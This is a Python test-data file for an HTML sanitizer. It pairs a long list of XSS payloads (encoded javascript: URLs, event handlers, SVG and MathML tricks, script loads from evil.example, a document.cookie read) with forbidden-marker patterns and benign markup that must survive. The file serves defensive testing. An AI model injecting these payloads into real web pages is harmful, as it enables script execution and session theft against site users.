"""Rich-text test data: XSS payloads that must not survive, benign markup that must, and the checks."""

from __future__ import annotations

import re

XSS_PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "<!--<script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<h1 OnMouseOver=alert(1)>x</h1>",
    '<span title="" onmouseover=alert(1) x="">x</span>',
    # javascript: URLs, encoded and obfuscated
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript://%0Aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img srcset="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # svg / math tricks
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # frames, objects, embeds
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<IFRAME SRC="javascript:alert(1)"></IFRAME>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    '<embed src="javascript:alert(1)">',
    # styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<span style="color:red">x</span>',
    '<div style="width: expression(alert(1));">x</div>',
    # data: URLs
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    # meta, base, link, forms
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
]

FORBIDDEN = [
    "<script",
    "javascript:",
    "vbscript:",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<math",
    "<style",
    "style=",
    "<meta",
    "<base",
    "<link",
    "<form",
    "<input",
    "<button",
    "srcdoc",
    "srcset",
    'src="data:',
    'href="data:',
    "expression(",
]
EVENT_HANDLER = re.compile(r"[\s\"'/]on[a-z]+\s*=", re.IGNORECASE)

# (input, expected output): formatting on the allowlist survives; links gain rel="noopener noreferrer".
BENIGN = [
    ("<p>Hello <strong>world</strong></p>", "<p>Hello <strong>world</strong></p>"),
    (
        "<p><em>a</em> <b>b</b> <i>c</i> <u>d</u> <s>e</s></p>",
        "<p><em>a</em> <b>b</b> <i>c</i> <u>d</u> <s>e</s></p>",
    ),
    ("<h2>Title</h2><p>Body</p>", "<h2>Title</h2><p>Body</p>"),
    ("<ul><li>One</li><li>Two</li></ul>", "<ul><li>One</li><li>Two</li></ul>"),
    ("<ol><li>First</li></ol>", "<ol><li>First</li></ol>"),
    ("<blockquote><p>Quote</p></blockquote>", "<blockquote><p>Quote</p></blockquote>"),
    ("<pre><code>x = 1</code></pre>", "<pre><code>x = 1</code></pre>"),
    ("<p>Line<br>break</p>", "<p>Line<br>break</p>"),
    ("<p>a</p><hr><p>b</p>", "<p>a</p><hr><p>b</p>"),
    (
        '<a href="https://example.com" title="Ex">link</a>',
        '<a href="https://example.com" title="Ex" rel="noopener noreferrer">link</a>',
    ),
    ('<a href="/about">About</a>', '<a href="/about" rel="noopener noreferrer">About</a>'),
    (
        '<a href="mailto:hi@example.com">Mail</a>',
        '<a href="mailto:hi@example.com" rel="noopener noreferrer">Mail</a>',
    ),
    ('<a href="tel:+123">Call</a>', '<a href="tel:+123" rel="noopener noreferrer">Call</a>'),
    (
        '<a href="https://x.example" target="_blank">x</a>',
        '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    ),
    (
        '<img src="https://cdn.example.com/a.png" alt="A" width="10" height="20">',
        '<img src="https://cdn.example.com/a.png" alt="A" width="10" height="20">',
    ),
    (
        '<figure><img src="/a.png" alt="x"><figcaption>Cap</figcaption></figure>',
        '<figure><img src="/a.png" alt="x"><figcaption>Cap</figcaption></figure>',
    ),
    (
        '<table><thead><tr><th colspan="2">H</th></tr></thead>'
        '<tbody><tr><td rowspan="1">a</td><td>b</td></tr></tbody></table>',
        '<table><thead><tr><th colspan="2">H</th></tr></thead>'
        '<tbody><tr><td rowspan="1">a</td><td>b</td></tr></tbody></table>',
    ),
    ("<h1>A</h1><h3>B</h3><h6>C</h6>", "<h1>A</h1><h3>B</h3><h6>C</h6>"),
    ("<p><span>plain span</span></p>", "<p><span>plain span</span></p>"),
    ("Fish &amp; Chips", "Fish &amp; Chips"),
    ("<p>5 &lt; 6</p>", "<p>5 &lt; 6</p>"),
    ("<p>Café — “quotes”</p>", "<p>Café — “quotes”</p>"),
]


def dangerous_parts(html: str) -> list[str]:
    """What of ``html`` could still run script or restyle the page (empty when it is safe)."""
    lowered = html.lower()
    found = [marker for marker in FORBIDDEN if marker in lowered]
    found += EVENT_HANDLER.findall(html)
    return found
